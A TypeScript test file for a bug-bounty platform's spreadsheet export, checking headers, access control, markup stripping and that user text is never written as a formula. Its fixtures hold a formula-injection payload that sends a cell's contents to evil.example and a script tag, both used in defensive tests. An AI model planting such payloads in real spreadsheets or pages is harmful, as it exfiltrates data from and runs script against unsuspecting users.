import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import readXlsxFile from 'read-excel-file/node';
import { unzipSync, strFromU8 } from 'fflate';
import { buildTestApp, type TestApp } from '../../../../test/helper';
import { API, approve, bountyForm, buildCast, publish, uploadAuthorisation, type Cast } from '../../projects/projects-test-support';
import { findProject } from '../../projects/project-form';
import { eq } from 'drizzle-orm';
import { bugs } from '../bugs.tables';
import { users } from '../../identity/identity.tables';
import type { BugStatus } from '@wardline/contract';

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('GET /loadfile: a project’s reports as an xlsx document (issue 9 §3)', () => {
  let t: TestApp;
  let cast: Cast;
  let projectId: string;
  beforeAll(async () => {
    t = await buildTestApp();
    cast = await buildCast(t);
    projectId = await publish(t, cast.company, bountyForm(t, await uploadAuthorisation(t, cast.company), { projectname: '导出测试项目' }));
    await approve(t, cast.staff, projectId);
    const project = (await findProject(t.db, projectId))!;
    const now = t.clock.now();
    const report = (n: number, state: BugStatus, extra: Partial<typeof bugs.$inferInsert> = {}) => ({
      holeNumber: `WL-EXPORT-${n}`,
      projectId: project.id,
      companyId: project.companyId,
      reporterId: cast.hacker.id,
      state,
      stateEnteredAt: now,
      title: `报告 ${n}`,
      selfGrade: 'high',
      judgeBasis: '可越权读取订单',
      bugType: 'idor',
      url: 'https://shop.example.com/api/orders?id',
      description: '修改订单号可读取他人订单',
      danger: '泄露收货地址与电话',
      detail: '<p>步骤一</p><ol><li>登录</li><li>访问 /api/orders?id=2</li></ol><script>alert(1)</script>',
      repairSuggestion: '<p>校验订单归属</p>',
      digest: `digest-${n}`,
      createdAt: new Date(now.getTime() + n * 1000),
      updatedAt: now,
      ...extra,
    });
    await t.db.insert(bugs).values([
      report(1, 'verifying', { title: '仍在审核的报告' }),
      report(2, 'confirming', { title: FORMULA_TITLE, auditGrade: 'middle' }),
      report(3, 'end', { auditGrade: 'high', confirmGrade: 'high', endGrade: 'urgent', gradeReason: '仲裁上调', rewardFen: 123456, cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', cvssScore: 9.8 }),
    ]);
  });
  afterAll(() => t.close());

  const download = (token: string | null, locale: 'zh' | 'en' = 'zh', id = projectId) =>
    t.app.inject({ method: 'GET', url: `${API}/loadfile?id=${id}`, headers: { ...(token ? { authorization: token } : {}), AcceptLanguage: locale } });

  it('gives the owner every report past triage, every field, headers in the caller’s language', async () => {
    const res = await download(cast.company.token, 'en');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="wardline-reports-[0-9a-f]{8}-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const [sheet] = await readXlsxFile(res.rawPayload);
    const [header, ...rows] = sheet!.data.map((row) => row.map((cell) => (cell === null ? '' : String(cell))));
    expect(header!.slice(0, 3)).toEqual(['Report number', 'Title', 'Status']);
    // The report still in triage is the platform's: not in the company's document.
    expect(rows.map((row) => row[0])).toEqual(['WL-EXPORT-2', 'WL-EXPORT-3']);
    const closed = Object.fromEntries(header!.map((name, i) => [name, rows[1]![i]]));
    expect(closed).toMatchObject({
      Status: 'Closed',
      'Self-rated grade': '高危',
      'Confirmed grade': '高危',
      'Final grade': '严重',
      'Grading reason': '仲裁上调',
      'Bounty (yuan)': '1234.56',
      'CVSS score': '9.8',
      'Vulnerability type': expect.stringMatching(/\(CWE-\d+\)$/),
      Reporter: (await t.db.select({ nickname: users.nickname }).from(users).where(eq(users.id, cast.hacker.id)))[0]!.nickname,
    });
    // Rich text arrives as its words, one paragraph or item a line, never as markup or script.
    expect(closed['Details']).toBe('步骤一\n登录\n访问 /api/orders?id=2');
    const zh = await readXlsxFile((await download(cast.company.token, 'zh')).rawPayload);
    expect(zh[0]!.data[0]!.slice(0, 3)).toEqual(['漏洞编号', '漏洞标题', '状态']);
  });

  it('writes what a hacker typed as text, never as a formula a spreadsheet would run', async () => {
    const res = await download(cast.company.token);
    const files = unzipSync(new Uint8Array(res.rawPayload));
    const sheetXml = Object.entries(files).filter(([name]) => name.startsWith('xl/worksheets/')).map(([, bytes]) => strFromU8(bytes)).join('');
    expect(sheetXml).not.toContain('<f>');
    const [sheet] = await readXlsxFile(res.rawPayload);
    expect(sheet!.data[1]![1]).toBe(FORMULA_TITLE);
  });

  it('refuses everyone but the owner, without the data', async () => {
    expect((await download(null)).statusCode).toBe(401);
    for (const who of [cast.otherCompany, cast.hacker]) {
      const res = await download(who.token);
      expect([403, 404]).toContain(res.statusCode);
      expect(res.headers['content-type']).toMatch(/application\/json/);
      expect(res.body).not.toContain('WL-EXPORT');
    }
    expect((await download(cast.company.token, 'zh', 'ffffffffffffffffffffffffffffffff')).statusCode).toBe(404);
  });
});
